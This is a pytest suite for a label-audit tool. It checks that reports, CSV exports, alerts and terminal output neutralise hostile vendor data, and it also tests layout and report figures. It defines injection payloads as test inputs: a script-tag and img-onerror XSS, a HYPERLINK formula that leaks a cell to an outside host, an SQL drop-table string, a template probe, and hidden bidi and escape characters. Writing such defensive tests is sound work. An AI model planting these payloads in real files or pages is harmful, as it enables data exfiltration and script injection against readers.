"""The report and its files, opened as their readers open them; hostile texts of vendors take no effect."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from conftest import PROJECT, audit
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from rich.table import Table

from labelaudit import demo
from labelaudit.alerts.messages import Message
from labelaudit.cli import output
from labelaudit.contracts.reading import read_contract
from labelaudit.rendering import charts
from labelaudit.rendering.spreadsheet import safe_cell, safe_csv
from labelaudit.run import steps
from labelaudit.storage import layout, tables
from labelaudit.storage.opening import open_store
from labelaudit.storage.store import Store

pytestmark = pytest.mark.runs

HOSTILE = "<script>document.title='owned'</script>"
IMAGE = '"><img src=x onerror="document.title=1">'
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


def opened(browser, content: bytes, tmp_path):
    """The page as a person opens it from a disk; gives it with every request and error that it made."""
    path = tmp_path / "opened.html"
    path.write_bytes(content)
    requests, errors = [], []
    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(path.as_uri())
    return page, [url for url in requests if not url.startswith(("file:", "data:"))], errors


COLUMNS = {"item": {}, "annotator": {}, "label": {}}
BETWEEN = {"type": "expect_column_values_to_be_between", "kwargs": {"column": "seconds", "min_value": 0}}
CLASSES = {"classes": ["<b>cat</b>", "=dog()", "+cow"], "annotators": "plain"}


def hostile_delivery() -> str:
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["item", "annotator", "label"])
    for number, item in enumerate((HOSTILE, IMAGE, FORMULA, "@SUM(1)", "a'; drop table labels; --", "{{ 7 * 7 }}")):
        for place, who in enumerate((f"ann {HOSTILE}", f"bob {IMAGE}", "cyd")):
            # of every second item all three say something else: what is published is likely wrong
            writer.writerow([item, who, CLASSES["classes"][place if number % 2 else 0]])
    return rows.getvalue()


def test_hostile_texts_are_shown_and_take_no_effect(browser, folder_store: Store, make_contract, put, tmp_path):
    contract = make_contract(**CLASSES, description=HOSTILE + " {{ 7 * 7 }}")
    put(folder_store, contract, hostile_delivery())
    release = audit(contract, folder_store).release
    destination = steps.open_destination(contract, folder_store)
    content = destination.read(layout.release(release.release) + "report.html")
    page, requests, errors = opened(browser, content, tmp_path)
    assert page.title() == f"acme / pets {release.release}"
    assert not requests
    assert not errors
    assert page.locator("body script").count() == 0
    assert page.locator("img[src=x]").count() == 0
    text = page.locator("body").inner_text()
    assert HOSTILE in text
    assert "{{ 7 * 7 }}" in text
    rows = tables.read_table(destination, layout.LABELS).to_pylist()
    assert {row["item"] for row in rows} >= {HOSTILE, FORMULA, "a'; drop table labels; --"}, "stored as delivered"


def test_a_rejection_report_shows_hostile_rows_as_text(browser, folder_store: Store, make_contract, put, tmp_path):
    contract = make_contract(**CLASSES, tolerance={"rejected_rows_rate": 0})
    put(folder_store, contract, hostile_delivery() + f"{HOSTILE},{IMAGE},{HOSTILE}\n")
    (rejected,) = audit(contract, folder_store).rejected
    page, requests, errors = opened(browser, folder_store.read(rejected.report), tmp_path)
    assert not requests
    assert not errors
    assert page.title() != "owned"
    assert "too_many_rejects" in page.locator("body").inner_text()
    assert HOSTILE in page.locator("body").inner_text()


def test_issues_csv_is_safe_in_a_spreadsheet(folder_store: Store, make_contract, put):
    contract = make_contract(**CLASSES)
    put(folder_store, contract, hostile_delivery())
    release = audit(contract, folder_store).release
    content = steps.open_destination(contract, folder_store).read(layout.release(release.release) + "issues.csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 1 + release.issues
    assert release.issues > 0
    assert not [cell for row in rows for cell in row if cell[:1] in "=+@\t\r" and cell]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＠"])
def test_every_start_of_a_formula_is_defused(start: str):
    assert safe_cell(start + "1+1").startswith("'")
    assert b'\n"' not in safe_csv(["a"], [[start + "1"]]).replace(b'\r\n"', b"")


SEPARATORS = (",", ";", "\t", "|")
TRIGGERS = tuple("=+-@＝＋－＠﹦﹢﹣﹫")


def formulas(content: bytes, separator: str) -> list[str]:
    """The cells that a program with this separator of lists takes for formulas."""
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    cells = [cell for row in csv.reader(text, delimiter=separator) for cell in row]
    return [cell for cell in cells if cell.strip(' \u00a0\n"').startswith(TRIGGERS)]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("between", [";", "\t", "|", "\n", "\r\n", "; ", ';"', ';""', ";' \"", "a;\tb|", ";\n"])
def test_no_cell_becomes_a_formula_where_another_separator_cuts_the_line(between, separator):
    """Excel in most of Europe cuts a line at `;`, and quotes that begin in the middle of a field protect nothing."""
    for start in ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "＠x", '"=1'):
        rows = [["x", "x" + between + start, start, 1, "x" + between], [start, between + start, "y", None, start]]
        assert formulas(safe_csv(["a", "b;=c", "d", "e", "f"], rows), separator) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text("=+-@;|,\t\"' \n\rx\u00a0＝", max_size=8), min_size=2, max_size=3), max_size=3))
def test_no_texts_at_all_make_a_formula_and_none_become_the_same(rows):
    for separator in SEPARATORS:
        assert formulas(safe_csv(["a"], rows), separator) == []
    texts = {text for row in rows for text in row}
    assert len({safe_cell(text) for text in texts}) == len(texts)


def test_every_spreadsheet_of_the_project_is_written_by_the_one_safe_writer():
    """A csv.writer elsewhere would be the next hole; the demo's deliveries are a vendor's files, not ours."""
    sources = (PROJECT / "include").rglob("*.py")
    own = [path.name for path in sources if "csv.writer(" in path.read_text() or "to_csv" in path.read_text()]
    assert sorted(own) == ["demo.py", "spreadsheet.py"]


HIDDEN = "a\u202egpj.exe\u2066b\u200f\u061c\x00\x1b[2J\x9b\x07\ufeffz"
ESCAPES = ("\\u202e", "\\u2066", "\\u200f", "\\u061c", "\\u0000", "\\u001b", "\\u009b", "\\u0007", "\\ufeff")


def test_what_is_hidden_in_a_text_is_shown_in_every_page_alert_and_terminal(
    browser, folder_store: Store, make_contract, put, tmp_path, capsys
):
    """Bidi controls, NUL, escape sequences and halves of pairs reach nothing raw; other scripts stay as they are."""
    contract = make_contract(**CLASSES, checks=[BETWEEN], columns={**COLUMNS, "seconds": {"type": "number"}})
    hebrew = "שלום-עולם"
    rows = [
        (item, who, CLASSES["classes"][place if number % 2 else 0], 1)
        for number, item in enumerate(("c", HIDDEN.replace("\0", ""), "d", hebrew))
        for place, who in enumerate((f"ann{HIDDEN[:9]}", "bob", "cyd"))
    ]
    rows.append((HIDDEN, "bob", CLASSES["classes"][0], -1))
    lines = "".join(
        json.dumps(dict(zip(("item", "annotator", "label", "seconds", f"more{HIDDEN}"), (*row, 1), strict=True))) + "\n"
        for row in rows
    )
    put(folder_store, contract, lines, vendor="birch", name="labels.jsonl")
    outcome = audit(contract, folder_store)
    put(folder_store, contract, lines[:-1] + " ", vendor="birch", name="labels.jsonl", delivery="d2")
    strict = contract.model_copy(update={"tolerance": contract.tolerance.model_copy(update={"rejected_rows_rate": 0})})
    (rejected,) = audit(strict, folder_store, "two").rejected
    report = steps.open_destination(contract, folder_store).read(
        layout.release(outcome.release.release) + "report.html"
    )
    pages = [report.decode(), folder_store.read(rejected.report).decode()]
    told = Message(
        event="breach", key="k", customer="acme", dataset="pets", subject=HIDDEN, text=hebrew + HIDDEN + "\ud800"
    )
    output.out.print(Table(output.escape(HIDDEN)), HIDDEN)
    output.tell({"item": HIDDEN}, True, None)
    terminal = capsys.readouterr().out
    assert json.loads(terminal[terminal.index("{") :]) == {"item": HIDDEN}, "programs read what was delivered"
    for text in (*pages, told.subject, told.text, terminal):
        assert [char for char in HIDDEN + "\ud800" if char in text and char not in "agpj.exeb[2Jz"] == []
        assert [escape for escape in ESCAPES[:4] if escape not in text] == []
    assert hebrew in pages[0]
    assert hebrew in told.text
    page, requests, errors = opened(browser, report, tmp_path)
    assert hebrew in page.locator("body").inner_text()
    assert (requests, errors) == ([], [])


def test_numbers_and_plain_texts_stay_as_they_are():
    assert [safe_cell(value) for value in (-1.5, "plain", "", None, "a=b")] == [-1.5, "plain", "", None, "a=b"]


@pytest.fixture(scope="module")
def digits(tmp_path_factory):
    """Two demo days of digits, one with many wrong labels: (contract, store, destination, last release)."""
    store = open_store(f"file://{tmp_path_factory.mktemp('digits')}")
    contract = read_contract(PROJECT / "include" / "contracts" / "northwind" / "digits.yaml")
    for day in (1, demo.BAD_DAY):
        demo.deliver_day(store, day)
        outcome = audit(contract, store, f"day{day}")
    return contract, store, steps.open_destination(contract, store), outcome.release


def test_a_report_shows_pictures_trend_and_every_row_accounted_for(browser, digits, tmp_path):
    _, _, destination, release = digits
    folder = layout.release(release.release)
    page, requests, errors = opened(browser, destination.read(folder + "report.html"), tmp_path)
    assert not requests
    assert not errors
    assert page.locator("img[src^='data:image/']").count() > 5
    assert page.locator("svg").count() >= 1
    broken = page.evaluate("[...document.images].filter(image => !image.complete || !image.naturalWidth).length")
    assert broken == 0
    wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide <= 0, "nothing is cut off at the side"
    report = json.loads(destination.read(folder + "report.json"))
    assert report["delivered_rows"] == report["accepted_rows"] + report["rejected_rows"]
    for line in report["deliveries"]:
        assert line["delivered_rows"] == line["accepted_rows"] + line["rejected_rows"]
    text = page.locator("body").inner_text()
    assert release.release in text
    assert "alder/day-10" in text


def on_a_phone(browser, content: bytes, tmp_path) -> None:
    """Nothing is cut off at 390 pixels: the page does not scroll sideways, tables do so themselves, to their end."""
    path = tmp_path / "phone.html"
    path.write_bytes(content)
    page = browser.new_context(viewport={"width": 390, "height": 844}).new_page()
    page.goto(path.as_uri())
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 390
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 390
    ends = page.evaluate(
        """[...document.querySelectorAll("table, svg[role=img]")].map(one => {
            const box = one.closest(".wide"), edge = box && box.getBoundingClientRect();
            if (!box) return one.outerHTML.slice(0, 80);
            box.scrollLeft = 1e6;
            const right = one.getBoundingClientRect().right;
            return edge.right <= 390 && right <= edge.right + 1 ? "" : one.outerHTML.slice(0, 80);
        })"""
    )
    assert ends
    assert [end for end in ends if end] == []


def test_on_a_phone_nothing_of_a_report_is_cut_off(browser, digits, tmp_path):
    _, _, destination, release = digits
    on_a_phone(browser, destination.read(layout.release(release.release) + "report.html"), tmp_path)


def test_on_a_phone_long_names_are_not_cut_off_either(browser, folder_store: Store, make_contract, put, tmp_path):
    long = "w" * 300
    contract = make_contract(description=long, tolerance={"rejected_rows_rate": 0})
    rows = [f"{long}{n},{who}{long},{'cat' if n % 2 else 'dog'}\n" for n in range(9) for who in ("ann", "bob", "cyd")]
    put(folder_store, contract, "item,annotator,label\n" + "".join(rows))
    put(folder_store, contract, f"item,annotator,label\n{long},ann,{long}\n", delivery="d2")
    outcome = audit(contract, folder_store)
    folder = layout.release(outcome.release.release)
    on_a_phone(browser, steps.open_destination(contract, folder_store).read(folder + "report.html"), tmp_path)
    on_a_phone(browser, folder_store.read(outcome.rejected[0].report), tmp_path)


def test_every_table_of_every_page_scrolls_within_itself():
    for path in (PROJECT / "include" / "labelaudit").rglob("templates/*.html"):
        text = path.read_text()
        assert text.count("<table") == text.count('<div class="wide"><table>'), path


def test_a_worst_item_shows_the_quality_of_the_label_it_was_given(digits):
    """ "9 → 4, quality 0.995" was the published 4's: whoever reads it takes it for the given 9's."""
    _, _, destination, release = digits
    folder = layout.release(release.release)
    report = json.loads(destination.read(folder + "report.json"))
    text = destination.read(folder + "report.html").decode()
    assert len(report["worst"]) > 5
    assert any(item["label"] != item["given"] and item["quality"] > 0.5 for item in report["worst"])
    qualities = [item["given_quality"] for item in report["worst"]]
    assert qualities == sorted(qualities)
    for item in report["worst"]:
        assert item["given_quality"] < 0.5
        assert f"quality of the given label: {item['given_quality']:.3f}" in text
        if item["label"] == item["given"]:
            assert item["given_quality"] == item["quality"]
    rows = csv.DictReader(io.StringIO(destination.read(folder + "issues.csv").decode("utf-8-sig")))
    listed = [(row["item"], float(row["given_quality"])) for row in rows]
    assert [quality for _, quality in listed] == sorted(quality for _, quality in listed)
    assert listed[: len(qualities)] == [(item["item"], item["given_quality"]) for item in report["worst"]]


def test_beside_a_classes_rate_stands_its_interval_and_what_is_watched_comes_last(digits):
    _, _, destination, release = digits
    folder = layout.release(release.release)
    report = json.loads(destination.read(folder + "report.json"))
    text = destination.read(folder + "report.html").decode()
    for label in report["classes"]:
        assert 0 <= label["low"] <= label["issues"] / label["items"] + 1e-9 <= label["high"] <= 1
        assert f"{100 * label['low']:.1f} % – {100 * label['high']:.1f} %" in text
    assert text.index("The labels most likely wrong") < text.index("What is watched")
    assert not [word for word in ("annotation_error", ">reject<", ">issue<") if word in text]


def test_report_and_data_say_the_same(digits):
    _, _, destination, release = digits
    report = json.loads(destination.read(layout.release(release.release) + "report.json"))
    rows = tables.read_table(destination, layout.LABELS).to_pandas()
    mine = rows[rows["release"] == release.release]
    assert (
        (report["items"], report["issues"])
        == (len(mine), int(mine["is_issue"].sum()))
        == (
            release.items,
            release.issues,
        )
    )
    assert sum(label["items"] for label in report["classes"]) == release.items
    assert sum(label["issues"] for label in report["classes"]) == release.issues
    for item in report["worst"]:
        row = mine[mine["item"] == item["item"]].iloc[0]
        assert (row["given_label"], row["suggested_label"]) == (item["given"], item["suggested"])


@pytest.mark.parametrize(("shape", "maximum"), [((8, 8), 16), ((4, 6), 255), ((5, 5, 3), 1)])
def test_a_picture_is_a_png_of_its_shape(shape, maximum):
    size = 1
    for side in shape:
        size *= side
    uri = charts.picture([maximum * n / size for n in range(size)], shape, maximum)
    assert uri.startswith("data:image/png;base64,")
    image = Image.open(io.BytesIO(base64.b64decode(uri.split(",")[1])))
    assert image.size[0] * shape[0] == image.size[1] * shape[1]
